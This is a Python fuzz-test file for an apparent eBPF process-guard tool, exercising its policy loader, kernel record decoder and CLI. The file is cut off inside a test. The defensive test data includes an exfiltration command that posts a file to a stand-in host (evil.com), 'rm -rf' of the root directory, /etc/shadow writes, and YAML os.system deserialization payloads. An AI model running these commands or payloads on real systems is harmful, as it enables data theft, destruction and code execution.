"""Fuzzing as regular tests (hypothesis, bounded): hostile policy files, raw kernel records and
command lines must give a located error, never a traceback.

- policies: random bytes, random YAML built from YAML's features (anchors, aliases, tags, deep
  nesting), mutations of the bundled policies, and policy-shaped documents with odd values.
  `load_policy`/`parse_policy` return a Policy or raise PolicyError whose every line is
  `file:line: key: message`; a Policy must also run through the engine; `check` exits 0 or 2.
- the event decoder: random records, and records with a valid header and random payloads.
  `Sensor.decode` returns an Event or None, or raises DecodeError, which `poll()` counts.
- the command line of the commands that do not act on the host (check, verify, report, replay,
  approvals). `run`/`watch` get a fixed list of invalid inputs only; `kill`/`resume` are never
  fuzzed: as root they act on the real host.

Every test body bumps RUNS; the module prints the total at its end (README "Fuzzing").
"""

from __future__ import annotations

import json
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ebpf_guard import policy as pol
from ebpf_guard.cli import main
from ebpf_guard.events import (
    ARG_LEN,
    KIND_CODES,
    MAX_ARGS,
    PATH_LEN,
    REAL_LEN,
    Event,
    Kind,
    RawExecEvent,
)
from ebpf_guard.policy import Policy, PolicyError, load_policy, parse_policy
from ebpf_guard.policy.engine import Engine
from ebpf_guard.sensor import DecodeError, Sensor
from ebpf_guard.sensor.decode import _HDR
from ebpf_guard.sensor.decode import _PATH_KINDS as PATH_KINDS
from tests.helpers import scaled

TWO_NAMES = (Kind.RENAME, Kind.LINK, Kind.SYMLINK)

ROOT = Path(__file__).resolve().parent.parent
BUNDLED = sorted((ROOT / "policies").glob("*.yaml"))
RUNS: Counter[str] = Counter()  # hypothesis examples executed, per test
VALID: Counter[str] = Counter()  # fuzzed policies that validated (and went through the engine)
# CI runs the bounded counts below (~25 s on 2 CPUs); EBPF_GUARD_FUZZ_SCALE=20 digs deeper.
SCALE = float(os.environ.get("EBPF_GUARD_FUZZ_SCALE", "1"))


def fuzz(n: int) -> Callable:
    """Hypothesis settings for a fuzz test: n examples, no deadline (CI machines are noisy)."""
    return settings(
        max_examples=max(1, int(n * SCALE)),
        deadline=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
            HealthCheck.function_scoped_fixture,
        ],
    )


@pytest.fixture(scope="module", autouse=True)
def _report_runs(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    per_test = ", ".join(f"{k} {v}" for k, v in sorted(RUNS.items()))
    line = (f"fuzz: {sum(RUNS.values())} examples executed ({per_test}); "
            f"{sum(VALID.values())} fuzzed policies were valid and ran through the engine")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if capture is not None:
        with capture.global_and_fixture_disabled():  # shown even without -s
            print(f"\n{line}")
    else:
        print(line)


# ------------------------------------------------------------------------------- policies

# `file:line: key: message`, or `file:line: message` for whole-file problems; a key may hold ": ".
ISSUE_LINE = re.compile(r"^.+:\d+: (.*: )?.+$")


def check_outcome(load: Callable[[], Policy]) -> Policy | None:
    """The property: a Policy, or a PolicyError made of well-formed lines; nothing else."""
    try:
        policy = load()
    except PolicyError as e:
        text = str(e)
        assert text and e.errors
        for line in text.split("\n"):
            assert ISSUE_LINE.match(line), line
        for issue in e.errors:
            assert issue.file and issue.line >= 0 and issue.message
            assert len(str(issue).splitlines()) == 1, str(issue)
        return None
    assert isinstance(policy, Policy)
    exercise_engine(policy)
    VALID["policies"] += 1
    return policy


def _event(kind: Kind, **kw: Any) -> Event:
    return Event(kind, 0, 7, 7, 1, 1000, "agent", 1, 5, **kw)


_EVENTS = [
    _event(Kind.FORK, child_pid=8),
    _event(Kind.EXEC, raw_path="/usr/bin/curl", path="/usr/bin/curl", argv=("curl", "-d", "@x", "evil.com")),
    _event(Kind.EXEC, raw_path="rm", path="/bin/rm", argv=("rm", "-rf", "build", "/"), cwd="/w", ret=0),
    _event(Kind.OPEN, raw_path="/etc/shadow", path="/etc/shadow", flags=1, access=frozenset({"write"}), ret=3),
    _event(Kind.OPEN, raw_path=".env", path="/w/.env", access=frozenset({"read"}), ret=4),
    _event(Kind.UNLINK, raw_path="x", path="/w/x", ret=0),
    _event(Kind.UNLINK, raw_path="d", path="/home/u/.ssh/d", is_dir=True, ret=0),
    _event(Kind.CONNECT, family="ipv4", addr="10.1.2.3", port=443),
    _event(Kind.CONNECT, family="ipv6", addr="::ffff:1.2.3.4", port=22),
    _event(Kind.CONNECT, family="unix", addr="@abstract"),
    _event(Kind.EXIT),
]


def exercise_engine(policy: Policy) -> None:
    """A policy that validates must also work: the engine accepts it and decides events
    (a validation gap shows up here as an exception at decision time)."""
    engine = Engine(policy, workspace="/w", home_of=lambda uid: "/home/u")
    engine.kernel_exec_kills()
    engine.kernel_exec_gates()
    engine.set_host_addresses({h: ["10.1.2.3"] for h in engine.hostnames()})
    for i, ev in enumerate(_EVENTS * 2):  # twice: rate rules and escalation count
        engine.evaluate(replace(ev, ts_ns=1_000 + i * 1_000_000))


def check_cli(path: Path) -> None:
    result = CliRunner().invoke(main, ["check", str(path)], catch_exceptions=True)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    assert result.exit_code in (0, 2), result.output
    assert "Traceback" not in result.output
    if result.exit_code == 2:
        for line in result.stderr.splitlines():
            assert ISSUE_LINE.match(line), line


@fuzz(150)
@given(st.binary(max_size=600))
def test_policy_random_bytes(tmp_path: Path, data: bytes) -> None:
    RUNS["policy_bytes"] += 1
    path = tmp_path / "p.yaml"
    path.write_bytes(data)
    check_outcome(lambda: load_policy(path))
    check_outcome(lambda: parse_policy(data.decode("utf-8", "surrogateescape"), str(path)))


# YAML built from its features. Scalars: the policy's own words, values of every YAML type
# (including the ones the safe constructor rejects), and strings hostile to the checks.
_KEYS = sorted({*pol.TOP_KEYS, *pol.RULE_KEYS, *(k for ks in pol.MATCH_KEYS.values() for k in ks),
                *pol.RATE_KEYS, *pol.ASK_KEYS})
_WORDS = [
    *_KEYS, "KILL", "halt", "Safe", "ASK", "FLAG", "BOOM", "audit", "enforce", "confirm", "any", "*",
    "process", "cgroup", "read", "write", "create", "truncate", "ipv4", "ipv6", "unix", "deny", "allow",
    "/etc/shadow", "{home}/.ssh/**", "~/x", "**/node_modules/**", "/a/", "'[a-'", "a**b", "/a/../b",
    "'{nope}/x'", "relative/x", "$secrets", "$a", "$b", "$nope", "10.0.0.0/8", "10.0.0.1/8", "::1",
    "'fe80::/10'", "443", "'8000-8100'", "65536", "'9-1'", "-r", "--force", "'-'", "10s", "500ms", "2m",
    "1h", "'1 day'", "0", "-1", "1.5", "1e309", ".inf", "-.inf", ".nan", "0x1F", "0o17", "1_000",
    "9" * 5000, "2001-13-45", "2001-01-01", "2001-01-01 10:00:00", "12:30:45", "=", "<<", "~", "null",
    "true", "no", "on", "''", '""', '"a\\0b"', '"\\x85\\u2028\\n"', '"\\ud800"', "'{path} {comm}'",
    "'{pid[0]}'", "'{path:>99999}'", "'{'", "'((('", "'a{99999999999}'", "api.anthropic.com",
    '"' + "a" * 40 + '!"', "'" + "(" * 400 + ")" * 400 + "'",
]  # fmt: skip
_TAGS = [
    "!!str ", "!!int ", "!!float ", "!!bool ", "!!null ", "!!binary ", "!!timestamp ", "!!set ",
    "!!omap ", "!!pairs ", "!!merge ", "!!python/object:os.system ", "!!python/object/apply:os.system ",
    "!!python/name:os.system ", "!!python/tuple ", "!foo ", "! ", "!<tag:yaml.org,2002:int> ",
]  # fmt: skip
_text_scalar = st.text(max_size=12).map(lambda s: json.dumps(s))  # double-quoted, any character
_scalar = st.one_of(st.sampled_from(_WORDS), st.sampled_from(_WORDS), _text_scalar)
_prop = st.one_of(st.just(""), st.just(""), st.sampled_from(_TAGS),
                  st.integers(0, 3).map(lambda i: f"&a{i} "))  # fmt: skip
_alias = st.integers(0, 3).map(lambda i: f"*a{i}")
_key = st.one_of(st.sampled_from(_KEYS), _scalar)


def _flow_node(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    seq = st.lists(children, max_size=4).map(lambda xs: "[" + ", ".join(xs) + "]")
    mapping = st.lists(st.tuples(_key, children), max_size=4).map(
        lambda kv: "{" + ", ".join(f"{k}: {v}" for k, v in kv) + "}"
    )
    return st.tuples(_prop, st.one_of(seq, mapping)).map("".join)


_node = st.recursive(
    st.one_of(st.tuples(_prop, _scalar).map("".join), _alias),
    _flow_node,
    max_leaves=16,
)
_deep = st.tuples(st.integers(0, 2000), st.sampled_from(["[", "{a: "])).map(
    lambda t: t[1] * t[0] + "x" + ("]" if t[1] == "[" else "}") * t[0]
)


@st.composite
def _laughs(draw: st.DrawFn) -> str:
    """A billion laughs: each level lists the previous one `width` times, by alias or $list."""
    width, depth = draw(st.integers(2, 12)), draw(st.integers(2, 9))
    if draw(st.booleans()):
        lines = ["lists:", "  l0: [" + ", ".join(["x"] * width) + "]"]
        lines += [f"  l{i}: [" + ", ".join([f"$l{i - 1}"] * width) + "]" for i in range(1, depth)]
        return "\n".join(lines) + f"\nrules: [{{name: r, open: {{path: $l{depth - 1}}}, verdict: KILL}}]"
    lines = ["lists:", "  l0: &l0 [" + ", ".join(["/x"] * width) + "]"]
    lines += [f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]" for i in range(1, depth)]
    return "\n".join(lines) + f"\nrules: [{{name: r, open: {{path: *l{depth - 1}}}, verdict: KILL}}]"


@st.composite
def yaml_documents(draw: st.DrawFn) -> str:
    lines = []
    if draw(st.integers(0, 9)):  # mostly with a version, so parsing goes past it
        lines.append(f"version: {draw(st.sampled_from(['1', '1', '1', '2', '1.0', 'true', '[1]']))}")
    for _ in range(draw(st.integers(0, 5))):
        kind = draw(st.integers(0, 9))
        if kind == 0:
            lines.append(f"{draw(_key)}: {draw(_deep)}")
        elif kind == 1:
            lines.append(draw(_laughs()))
        elif kind <= 4:
            rules = draw(st.lists(_node, max_size=3))
            lines.append("rules:" + "".join(f"\n  - {r}" for r in rules))
        else:
            lines.append(f"{draw(_key)}: {draw(_node)}")
    return "\n".join(lines) + "\n"


@fuzz(300)
@given(yaml_documents())
def test_policy_random_yaml(tmp_path: Path, text: str) -> None:
    RUNS["policy_yaml"] += 1
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    check_outcome(lambda: load_policy(path))


# Mutations of the bundled policies: their real keys, values of the wrong type.
_odd_values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(-(2**70), 2**70),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=20),
    st.sampled_from([w.strip("'\"") for w in _WORDS]),
    st.lists(st.sampled_from(["x", "$nope", "/a/**", 1, None]), max_size=3),
    st.dictionaries(st.sampled_from(_KEYS), st.sampled_from(["x", 1, None, "KILL"]), max_size=3),
)  # fmt: skip


def _containers(tree: Any, out: list[Any]) -> list[Any]:
    if isinstance(tree, (dict, list)):
        out.append(tree)
        for v in tree.values() if isinstance(tree, dict) else tree:
            _containers(v, out)
    return out


@st.composite
def mutated_policies(draw: st.DrawFn) -> str:
    path = draw(st.sampled_from(BUNDLED))
    text = path.read_text()
    if draw(st.booleans()):  # structural: on the data, re-dumped
        tree = yaml.safe_load(text)
        for _ in range(draw(st.integers(1, 4))):
            target = draw(st.sampled_from(_containers(tree, [])))
            op = draw(st.integers(0, 3))
            if isinstance(target, dict):
                key = draw(st.sampled_from([*target, *_KEYS])) if target else draw(st.sampled_from(_KEYS))
                if op == 0:
                    target.pop(key, None)
                else:
                    target[key] = draw(_odd_values)
            elif target:
                i = draw(st.integers(0, len(target) - 1))
                if op == 0:
                    del target[i]
                elif op == 1:
                    target.append(target[i])  # a duplicate (rule names!)
                else:
                    target[i] = draw(_odd_values)
        return yaml.safe_dump(tree, sort_keys=False, default_flow_style=draw(st.booleans()))
    # textual: cut, insert, replace at random places
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(text)))
        j = draw(st.integers(i, min(len(text), i + 40)))
        text = text[:i] + draw(st.one_of(st.text(max_size=8), st.sampled_from(_WORDS + ["\n", ": ", "- "]))) + text[j:]
    return text


@fuzz(150)
@given(mutated_policies())
def test_policy_mutated_bundled(tmp_path: Path, text: str) -> None:
    RUNS["policy_mutated"] += 1
    # Beside a copy of default.yaml, which audit-only.yaml extends; other names are not found.
    (tmp_path / "default.yaml").write_bytes((ROOT / "policies" / "default.yaml").read_bytes())
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    check_outcome(lambda: load_policy(path))


@fuzz(60)
@given(st.one_of(st.binary(max_size=300).map(lambda b: ("bytes", b)),
                 yaml_documents().map(lambda t: ("yaml", t)),
                 mutated_policies().map(lambda t: ("mutated", t))))  # fmt: skip
def test_check_command_on_fuzzed_policies(tmp_path: Path, case: tuple[str, Any]) -> None:
    RUNS["check_cli"] += 1
    kind, content = case
    path = tmp_path / "p.yaml"
    if kind == "bytes":
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8", errors="surrogatepass")
    check_cli(path)


_EXTENDS_TARGETS = st.sampled_from(["a", "b", "c", "bin", "dir", "missing", None])


@fuzz(60)
@given(st.lists(st.tuples(st.sampled_from(["a", "b", "c"]), _EXTENDS_TARGETS, yaml_documents()),
                min_size=1, max_size=3),
       st.sampled_from(["a", "b", "c"]))  # fmt: skip
def test_policy_extends_graphs(tmp_path: Path, files: list[tuple[str, str | None, str]], start: str) -> None:
    """Files extending each other (cycles, missing, binary, a directory): a Policy or PolicyError."""
    RUNS["policy_extends"] += 1
    for name, target, text in files:
        if target is not None:
            text = f"extends: {target}.yaml\n" + text
        (tmp_path / f"{name}.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
    (tmp_path / "bin.yaml").write_bytes(b"version: 1\n\x00\xff")
    (tmp_path / "dir.yaml").mkdir(exist_ok=True)
    check_outcome(lambda: load_policy(tmp_path / f"{start}.yaml"))


# Policies of the right shape with odd but mostly valid values: what validates must also
# run through the engine (reason formats, globs, regexes, ports, CIDRs, hosts, rates).
_GLOBS = ["/etc/**", "{home}/.ssh/**", "~/x", "**/node_modules/**", "*id_rsa*", "/tmp/", "/a/*/b", "/",
          "{workspace}/**", "/**", "[a-z]*", "[!.]*", ".env", "/a/[", "/x/**/y", "a**b", "$l"]  # fmt: skip
_CONDITION_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "name": st.sampled_from(["curl", "rm", "*", "c?rl", "[a-z]*", "py*", "[!x]", "$l", "a/b"]),
    "path": st.sampled_from(_GLOBS) | st.text(max_size=10).map(lambda t: "/" + t),
    "args_any": st.sampled_from(["-d", "@*", "*secret*", "[", "**"]) | st.text(max_size=6),
    "args_regex": st.sampled_from(["^-r", "(a|b)+", ".*", r"\d{2,3}", "[", "(?i)curl", "a{99999999999}"]),
    "flags": st.sampled_from(["-r", "-rf", "--force", "--recursive", "-", "x", "--a=b"]),
    "access": st.sampled_from(["read", "write", "create", "truncate", "exec"]),
    "dir": st.sampled_from([True, False, "yes", 1]),
    "addr": st.sampled_from(["10.0.0.0/8", "::1", "0.0.0.0/0", "::/0", "fe80::/10", "192.168.1.1",
                             "::ffff:1.2.3.4/128", "10.0.0.1/8", "fe80::1%eth0", "1.2.3.4/33"]),
    "port": st.sampled_from([443, "8000-8100", 0, 65535, "1-1024", 70000, -1, "22", 1.5]),
    "host": st.sampled_from(["api.anthropic.com", "localhost", "a_b.example.", "xn--bcher-kva.example",
                             "1.2.3.4", "*.x.com", "a" * 64, "-a.com"]),
    "family": st.sampled_from(["ipv4", "ipv6", "unix", "ipx"]),
}  # fmt: skip
_CONDITION_VALUES["comm"] = st.sampled_from(["git", "py*", "[a-z]*", "a/b", "$l", "", "[!x]"])
_CONDITION_VALUES["exe"] = st.sampled_from(["ssh", "/usr/bin/*", "{home}/bin/x", "a/b", "**/x", "$l", "[", "{nope}/x"])
_CONDITION_VALUES["ancestors"] = _CONDITION_VALUES["exe"]
_CONDITION_VALUES["protocol"] = st.sampled_from(["tcp", "udp", "UDP", "icmp", "raw", "seqpacket", "$l"])
for _k in ("path_not", "operands", "operands_not"):
    _CONDITION_VALUES[_k] = _CONDITION_VALUES["path"]
_CONDITION_VALUES["addr_not"] = _CONDITION_VALUES["addr"]
_REASONS = ["{path}", "{path!r:>10}", "{pid:05d}", "{pid:s}", "{{literal}}", "{comm!a}", "{count}x{window}",
            "{dest} {host} {home} {workspace} {argv}", "{path:^30.5}", "{uid:x}", "{rule}: {verdict} {kind}",
            "{ppid!s:<4}", "{value:,}", "{port:%}", "{}", "{0}", "{path.upper}"]  # fmt: skip


def _condition(key: str) -> st.SearchStrategy[Any]:
    one = _CONDITION_VALUES[key]
    return one if key == "dir" else st.one_of(one, st.lists(one, min_size=1, max_size=3))


@st.composite
def _rules(draw: st.DrawFn, i: int) -> dict[str, Any]:
    kind = draw(st.sampled_from(pol.RULE_KINDS))
    keys = draw(st.lists(st.sampled_from(pol.MATCH_KEYS[kind]), unique=True, max_size=3))
    match: Any = {k: draw(_condition(k)) for k in keys} or draw(st.sampled_from([None, "any", {}]))
    verdict = draw(st.sampled_from(["SAFE", "FLAG", "ASK", "HALT", "KILL", "kill"]))
    rule: dict[str, Any] = {"name": f"r{i}", kind.value: match, "verdict": verdict}
    if draw(st.booleans()):
        rule["reason"] = draw(st.sampled_from(_REASONS))
    if verdict.upper() == "KILL" and draw(st.booleans()):
        rule["scope"] = draw(st.sampled_from(["process", "cgroup"]))
    if verdict == "ASK" and draw(st.booleans()):
        rule["on_deny"] = draw(st.sampled_from(["HALT", "KILL"]))
    if verdict != "SAFE" and draw(st.integers(0, 3)) == 0:
        rule["rate"] = {"count": draw(st.integers(1, 3)), "window": draw(st.sampled_from(["10s", 1, 0.5, "1h"]))}
    return rule


@st.composite
def policy_documents(draw: st.DrawFn) -> str:
    doc: dict[str, Any] = {"version": 1}
    if draw(st.booleans()):
        doc["mode"] = draw(st.sampled_from(["audit", "confirm", "enforce"]))
    if draw(st.booleans()):
        doc["default"] = draw(st.sampled_from(["SAFE", "FLAG", "HALT"]))
    if draw(st.booleans()):
        doc["flag_threshold"], doc["flag_window"] = draw(st.integers(0, 3)), draw(st.sampled_from(["1s", 60]))
    if draw(st.booleans()):
        doc["lists"] = {"l": draw(st.lists(st.sampled_from(_GLOBS[:-1]), max_size=3))}
    if draw(st.booleans()):
        doc["redact"] = draw(st.lists(st.sampled_from(["sk-[a-z]+", "(", "x{2}"]), max_size=2))
    doc["rules"] = [draw(_rules(i)) for i in range(draw(st.integers(0, 6)))]
    return yaml.safe_dump(doc, sort_keys=False)


@fuzz(200)
@given(policy_documents())
def test_policy_shaped_documents(text: str) -> None:
    RUNS["policy_shaped"] += 1
    check_outcome(lambda: parse_policy(text, "/fuzz/p.yaml"))


def _hostile_policies(tmp: Path) -> dict[str, Path]:
    """Hand-picked inputs, one per bug found (issue #7): each must be a located PolicyError."""
    texts: dict[str, bytes | str] = {
        "nul": b"version: 1\nmode: audit\x00\n",
        "binary": bytes(range(256)) * 4,
        "latin1": "version: 1\nmode: \xe9t\xe9\n".encode("latin-1"),
        "deep-seq": "version: 1\nrules: " + "[" * 5000 + "]" * 5000 + "\n",
        "deep-map": "version: 1\nlists:\n  a: " + "{a: " * 3000 + "x" + "}" * 3000 + "\n",
        "laughs-alias": "version: 1\nlists:\n  a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"  a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 10) + "]\n" for i in range(1, 10)),
        "laughs-lists": "version: 1\nlists:\n  a0: [x,x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"  a{i}: [" + ",".join([f"$a{i - 1}"] * 10) + "]\n" for i in range(1, 10)),
        "alias-fanout": "version: 1\nlists:\n  b: &b [" + ",".join(["/x"] * 1000) + "]\nrules:\n"
        + "".join(f" - {{name: r{i}, open: {{path: *b}}, verdict: KILL}}\n" for i in range(1000)),
        "recursive-alias": "version: 1\nlists: &a {x: *a}\n",
        "list-chain": "version: 1\nlists:\n" + "".join(f"  a{i}: [$a{i + 1}]\n" for i in range(3000))
        + "  a3000: [x]\n",
        "python-tag": "version: 1\nmode: !!python/object/apply:os.system ['echo pwned']\n",
        "python-name": "version: 1\nmode: !!python/name:os.system x\n",
        "local-tag": "version: 1\nmode: !foo audit\n",
        "bad-int-tag": "version: 1\nflag_threshold: !!int many\n",
        "merge-key": "version: 1\nbase: &b {mode: audit}\n<<: *b\n",
        "bad-date": "version: 1\nworkspace: 2001-13-45\n",
        "huge-int": "version: 1\nflag_threshold: " + "9" * 5000 + "\n",
        "inf-window": "version: 1\nflag_window: .inf\n",
        "huge-window": "version: 1\nflag_window: 1e300\n",
        "duplicate-keys": "version: 1\nversion: 1\nmode: audit\nmode: enforce\n",
        "float-version": "version: 1.0\n",
        "types": "version: 1\nmode: 3\ndefault: [a]\nflag_threshold: x\nrules:\n - {name: 5, verdict: 7,"
        " exec: {name: 5}}\n - {name: x, open: {path: [1, 2.5, null, true, {a: b}]}, verdict: [KILL]}\n",
        "host-redos": "version: 1\nrules: [{name: x, connect: {host: '" + "a" * 40 + "!'}, verdict: KILL}]\n",
        "duration-redos": "version: 1\nflag_window: '1" + " " * 100_000 + "x'\n",
        "port-digits": "version: 1\nrules: [{name: x, connect: {port: '" + "9" * 5000 + "'}, verdict: KILL}]\n",
        "regex-overflow": "version: 1\nredact: ['a{99999999999}']\n",
        "regex-recursion": "version: 1\nredact: ['" + "(" * 5000 + ")" * 5000 + "']\n",
        "args-regex-overflow": "version: 1\nrules: [{name: x, exec: {args_regex: 'a{99999999999}'}, "
        "verdict: KILL}]\n",
        "reason-index": "version: 1\nrules: [{name: x, open: any, verdict: KILL, reason: '{pid[0]}'}]\n",
        "reason-width": "version: 1\nrules: [{name: x, open: any, verdict: KILL, reason: '{path:>999999999}'}]\n",
        "key-newline": 'version: 1\n"a\\nb": 1\n',
        "surrogate-key": 'version: 1\n"\\ud800": 1\n',
        "extends-nul": 'version: 1\nextends: "a\\0b"\n',
        "extends-binary": "version: 1\nextends: binary.yaml\n",
        "extends-dir": "version: 1\nextends: /\n",
        "extends-cycle": "version: 1\nextends: extends-cycle.yaml\n",
        "extends-fifo": "version: 1\nextends: fifo.yaml\n",
        "many-errors": "version: 1\n" + "".join(f"k{i}: 1\n" for i in range(5000)),
        "huge": b"version: 1\n" + b"#" * (pol.MAX_POLICY_BYTES + 1),
    }
    out = {}
    for name, content in texts.items():
        path = tmp / f"{name}.yaml"
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8", errors="surrogatepass")
        else:
            path.write_bytes(content)
        out[name] = path
    chain = [tmp / f"chain{i}.yaml" for i in range(pol.MAX_EXTENDS + 2)]
    for i, path in enumerate(chain):
        path.write_text("version: 1\n" + (f"extends: chain{i + 1}.yaml\n" if i + 1 < len(chain) else ""))
    out["extends-chain"] = chain[0]
    os.mkfifo(tmp / "fifo.yaml")
    out["fifo"] = tmp / "fifo.yaml"
    out["directory"] = tmp
    out["missing"] = tmp / "missing.yaml"
    (tmp / "loop.yaml").symlink_to(tmp / "loop.yaml")
    out["symlink-loop"] = tmp / "loop.yaml"
    return out


def test_hostile_policies_are_located_errors(tmp_path: Path) -> None:
    for name, path in _hostile_policies(tmp_path).items():
        assert check_outcome(lambda path=path: load_policy(path)) is None, name
        check_cli(path)


def test_safe_loading_never_runs_python(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = f"version: 1\nmode: !!python/object/apply:os.system ['touch {marker}']\n"
    with pytest.raises(PolicyError, match=r":2: mode: unsupported YAML tag !!python/object/apply"):
        parse_policy(text, str(tmp_path / "p.yaml"))
    assert not marker.exists()


def test_hostile_policy_messages(tmp_path: Path) -> None:
    paths = _hostile_policies(tmp_path)

    def first(name: str) -> str:
        with pytest.raises(PolicyError) as e:
            load_policy(paths[name])
        return str(e.value.errors[0]).removeprefix(str(paths[name]))

    assert first("nul") == ":2: binary data (NUL byte): not a YAML policy"
    assert first("latin1") == ":2: not UTF-8 text (byte 0xe9)"
    assert first("deep-seq") == f":2: YAML syntax error: nested deeper than {pol.MAX_DEPTH} levels"
    assert "values with aliases expanded" in first("laughs-alias")
    assert "lists expand to more than" in first("laughs-lists")
    assert first("fifo") == ":0: cannot read policy: not a regular file"
    assert first("directory") == ":0: cannot read policy: Is a directory"
    assert first("huge") == ":0: policy larger than 1 MiB"
    assert first("merge-key") == ":3: <<: merge keys ('<<') are not supported"
    assert first("bad-date").startswith(":2: workspace: bad date '2001-13-45'")
    assert first("float-version") == ":1: version: unsupported version 1.0 (supported: 1)"
    assert first("key-newline") == ":2: a\\nb: unknown key 'a\\nb'"
    assert first("extends-chain").endswith(f"extends: extends chain longer than {pol.MAX_EXTENDS} files")
    (tmp_path / "binary.yaml").write_bytes(b"version: 1\n\x00")
    with pytest.raises(PolicyError) as e:
        load_policy(paths["extends-binary"])
    assert str(e.value) == f"{tmp_path}/binary.yaml:2: binary data (NUL byte): not a YAML policy"
    with pytest.raises(PolicyError) as e:
        load_policy(paths["many-errors"])
    assert len(e.value.errors) == pol.MAX_ISSUES + 1
    assert str(e.value.errors[-1]).endswith(f"{5000 - pol.MAX_ISSUES} more problems not shown")


# ------------------------------------------------------------------------------- decoder

_KIND = {k: c for c, k in KIND_CODES.items()}
_u32 = st.one_of(st.integers(0, 300), st.sampled_from([PATH_LEN, PATH_LEN + 1, 2**31, 2**32 - 1]),
                 st.integers(0, 2**32 - 1))  # fmt: skip
_pid = st.one_of(st.sampled_from([0, 1, os.getpid(), 2**22, 2**32 - 1]), st.integers(0, 2**32 - 1))


@st.composite
def headers(draw: st.DrawFn, kind: int, plen: int) -> bytes:
    return _HDR.pack(
        draw(st.integers(0, 2**64 - 1)), draw(st.integers(0, 2**64 - 1)),  # ts, cgroup
        draw(st.one_of(st.just(0), st.integers(0, 2**64 - 1))),  # start_ns
        draw(st.one_of(st.integers(-200, 200), st.integers(-(2**63), 2**63 - 1))),  # ret
        draw(_pid), draw(_pid), draw(_pid), draw(st.integers(0, 2**32 - 1)),  # pid tgid ppid uid
        kind, draw(st.integers(0, 0x3F) | st.integers(0, 2**32 - 1)),  # kind, flags
        draw(st.sampled_from([-100, 0, 3, -1]) | st.integers(-(2**31), 2**31 - 1)),  # fd
        draw(st.integers(0, 2**32 - 1)), draw(_pid), plen,  # sc_flags, child, path_len
        draw(st.binary(min_size=16, max_size=16)),
    )  # fmt: skip


@st.composite
def kernel_like_records(draw: st.DrawFn) -> tuple[bytes, bool]:
    """(record, exact): a header with a real kind and a payload laid out like bpf/sensor.c
    writes it; `exact` when every length and count is one the kernel can produce."""
    kind = draw(st.sampled_from(list(Kind)))
    exact = draw(st.booleans())
    path = draw(st.binary(max_size=PATH_LEN - 1)) + b"\0"
    plen = len(path) if exact else draw(_u32)
    pad = b"" if exact else draw(st.binary(max_size=8))
    if kind in PATH_KINDS:
        # struct ev_obj, path2_len + pad, then the packed strings: path, path2, real, real2.
        if exact:
            path2 = (draw(st.binary(max_size=PATH_LEN - 1)) + b"\0") if kind in TWO_NAMES else b""
            real = draw(st.binary(max_size=REAL_LEN - 1))
            real2 = draw(st.binary(max_size=REAL_LEN - 1)) if kind in TWO_NAMES else b""
            obj = struct.pack("<QQIIII", draw(_u32), draw(_u32), len(real), len(real2), len(path2), 0)
            body = obj + path + path2 + real + real2
        else:
            obj = struct.pack("<QQIIII", draw(_u32), draw(_u32), draw(_u32), draw(_u32), draw(_u32), 0)
            body = obj + draw(st.binary(max_size=PATH_LEN + 8))
    elif kind is Kind.EXEC:
        argc = draw(st.integers(0, MAX_ARGS)) if exact else draw(_u32)
        args = b"".join(draw(st.binary(max_size=ARG_LEN)).ljust(ARG_LEN, b"\0")
                        for _ in range(min(argc, MAX_ARGS + 1)))  # fmt: skip
        real, cwd = draw(st.binary(max_size=REAL_LEN - 1)), draw(st.binary(max_size=REAL_LEN - 1))
        obj = struct.pack("<QQII", draw(_u32), draw(_u32), len(real) if exact else draw(_u32),
                          len(cwd) if exact else draw(_u32))
        body = (obj + real.ljust(REAL_LEN, b"\0") + cwd.ljust(REAL_LEN, b"\0") + path.ljust(PATH_LEN, b"\0")
                + struct.pack("<II", argc, 0) + args)
        if not exact:
            body = body[: draw(st.integers(0, len(body)))]
    elif kind is Kind.CONNECT:
        plen = 0 if exact else plen
        family = draw(st.sampled_from([socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 0, 65535]))
        body = struct.pack("<HHI", family, draw(st.integers(0, 65535)), draw(_u32))
        body += draw(st.binary(min_size=16 + 108, max_size=16 + 108))
        if not exact:
            body = body[: draw(st.integers(0, len(body)))]
    else:  # fork, exit: the header only
        plen = 0 if exact else plen
        body = b"" if exact else draw(st.binary(max_size=64))
    return draw(headers(_KIND[kind], plen)) + body + pad, exact


def decode_outcome(sensor: Sensor, record: bytes) -> Event | None:
    try:
        ev = sensor.decode(record)
    except DecodeError:
        return None
    assert ev is None or isinstance(ev, Event)
    return ev


@fuzz(300)
@given(st.binary(max_size=4 * PATH_LEN))
def test_decode_random_bytes(record: bytes) -> None:
    RUNS["decode_bytes"] += 1
    decode_outcome(Sensor(), record)


@fuzz(400)
@given(kernel_like_records())
def test_decode_kernel_like_records(case: tuple[bytes, bool]) -> None:
    RUNS["decode_records"] += 1
    record, exact = case
    sensor = Sensor()
    if exact:  # what the kernel writes always decodes
        assert isinstance(sensor.decode(record), Event)
    else:
        decode_outcome(sensor, record)


@fuzz(80)
@given(st.lists(st.one_of(kernel_like_records().map(lambda c: c[0]), st.binary(max_size=200)), max_size=12))
def test_poll_loop_survives_bad_records(records: list[bytes]) -> None:
